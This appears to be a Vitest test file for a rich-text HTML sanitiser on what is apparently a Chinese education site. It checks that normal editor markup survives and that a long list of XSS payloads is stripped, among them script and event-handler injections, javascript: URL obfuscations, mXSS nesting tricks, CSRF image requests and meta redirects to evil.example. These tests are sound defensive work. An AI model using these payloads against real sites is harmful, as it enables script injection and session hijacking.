import { describe, expect, it } from 'vitest';
import { excerptOf, sanitiseRichText } from './rich-text.ts';

const pixel = 'data:image/png;base64,iVBORw0KGgo=';

describe('rich text that is stored', () => {
  it.each([
    '<p style="text-align:center">通知<strong>重点</strong><br /></p>',
    '<h2>标题</h2><ul><li>一</li></ul><ol start="3"><li>三</li></ol><blockquote><p>引用</p></blockquote>',
    '<table><tbody><tr><th colspan="2">表头</th></tr><tr><td rowspan="2">一</td><td>二</td></tr></tbody></table>',
    `<p><img src="${pixel}" alt="示意图" width="400" /></p>`,
    '<p><a href="https://www.moe.gov.cn/" target="_blank" rel="noopener noreferrer">教育部</a></p>',
    '<video controls width="400" height="300" preload="none"><source src="https://example.edu.cn/a.mp4" /></video>',
    '<audio controls preload="none"><source src="http://example.edu.cn/a.mp3" /></audio>',
  ])('what the editor writes stays as it is: %s', (html) => {
    expect(sanitiseRichText(html)).toBe(html);
    expect(sanitiseRichText(sanitiseRichText(html))).toBe(html);
  });

  it("headings of the page stay the page's, links open apart from it", () => {
    expect(sanitiseRichText('<h1>大标题</h1>')).toBe('<h2>大标题</h2>');
    expect(sanitiseRichText('<a href="https://a.cn" target="_self" rel="opener" onclick="x()">a</a>')).toBe(
      '<a href="https://a.cn" target="_blank" rel="noopener noreferrer">a</a>',
    );
  });

  it.each([
    [
      '<video autoplay muted loop preload="auto" width="400"><source src="https://evil.example/a.mp4" /></video>',
      '<video muted loop preload="none" width="400" controls><source src="https://evil.example/a.mp4" /></video>',
    ],
    [
      '<audio AUTOPLAY="" preload=metadata src="https://evil.example/a.mp3"></audio>',
      '<audio preload="none" controls></audio>',
    ],
    [
      '<video poster="https://evil.example/seen.png"><track default src="https://evil.example/a.vtt"></video>',
      '<video controls preload="none"></video>',
    ],
  ])('recordings of other servers wait until they are played: %s', (html, kept) => {
    expect(sanitiseRichText(html)).toBe(kept);
  });

  /** Attacks, each of which would run a script, call this system in the reader's name, or cover the page. */
  it.each([
    ['<script>alert(1)</script>', ''],
    ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', ''],
    ['<scr<script>ipt>alert(1)</scr</script>ipt>', null],
    ['<img src=x onerror=alert(1)>', ''],
    ['<img src="/api/logout">', ''],
    ['<img src="https://evil.example/track.gif">', ''],
    ['<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">', ''],
    ['<img src="data:text/html;base64,PHNjcmlwdD4=">', ''],
    ['<img src="  javascript:alert(1)">', ''],
    [`<img src="data:image/png;base64,${'A'.repeat(400_001)}">`, ''],
    ['<img/src="x"/onerror=alert(1)//>', ''],
    ['<svg onload=alert(1)><circle/></svg>', ''],
    ['<svg><script>alert(1)</script></svg>', ''],
    ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', null],
    ['<a href="javascript:alert(1)">点</a>', '<a target="_blank" rel="noopener noreferrer">点</a>'],
    ['<a href="java\nscript:alert(1)">点</a>', null],
    ['<a href="&#106;avascript:alert(1)">点</a>', null],
    ['<a href="data:text/html,<script>alert(1)</script>">点</a>', null],
    ['<a href="vbscript:msgbox(1)">点</a>', null],
    ['<a href="//evil.example">点</a>', null],
    ['<p onmouseover="alert(1)">文字</p>', '<p>文字</p>'],
    ['<p style="position:fixed;inset:0;background:url(javascript:alert(1))">盖住页面</p>', '<p>盖住页面</p>'],
    ['<p style="text-align:center;width:expression(alert(1))">文字</p>', '<p style="text-align:center">文字</p>'],
    ['<iframe src="https://evil.example"></iframe>', ''],
    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
    ['<object data="x.swf"></object><embed src="x.swf">', ''],
    ['<form action="/api/login"><input name="userName"><button>登录</button></form>', '登录'],
    [
      '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link ' +
        'rel="stylesheet" href="https://evil.example/x.css">',
      '',
    ],
    ['<style>body{display:none}</style>', ''],
    [
      '<video src="javascript:alert(1)" poster="javascript:alert(1)" onloadstart="alert(1)"></video>',
      '<video controls preload="none"></video>',
    ],
    ['<video><source src="javascript:alert(1)" onerror="alert(1)"></video>', '<video controls preload="none"></video>'],
    ['<audio><source src="/api/logout"></audio>', '<audio controls preload="none"></audio>'],
    ['<details open ontoggle=alert(1)>x</details>', 'x'],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', null],
    ['<!--<img src="--><img src=x onerror=alert(1)//">', null],
    ['<template><script>alert(1)</script></template>', ''],
    ['<p id="root" class="shell" name="csrf">冒充</p>', '<p>冒充</p>'],
    ['<div data-x="1" contenteditable autofocus onfocus=alert(1) tabindex=1>x</div>', '<div>x</div>'],
  ])('%s', (attack, left) => {
    const kept = sanitiseRichText(attack);
    if (left !== null) expect(kept).toBe(left);
    expect(kept).not.toMatch(/<(?:script|style|svg|math|iframe|object|embed|form|input|base|meta|link|template)/i);
    expect(kept).not.toMatch(/<[^>]*\s(?:on\w+|poster|id|class|name)=/i);
    expect(kept).not.toMatch(
      /<[^>]*\s(?:src(?:set|doc)?="(?!data:image\/png|https?:)|href="(?!https?:|mailto:|tel:))=/i,
    );
    expect(kept).not.toMatch(/<[^>]*(?:javascript|vbscript|expression|text\/html)/i);
    expect(sanitiseRichText(kept)).toBe(kept);
  });

  it('a text nested a thousand deep is flattened, not followed', () => {
    expect(
      sanitiseRichText('<div>'.repeat(1000) + '深' + '</div>'.repeat(1000)).match(/<div>/g)?.length,
    ).toBeLessThanOrEqual(60);
  });

  it('an excerpt is plain text, cut at whole characters', () => {
    expect(excerptOf('<h2>标题</h2><p>第一段&amp;二<br>三&nbsp;四</p><script>x</script>')).toBe('标题 第一段&二 三 四');
    expect(excerptOf('<p>一二三四五😀七</p>', 6)).toBe('一二三四五…');
    expect(excerptOf('<p>&lt;b&gt;</p>')).toBe('<b>');
  });
});
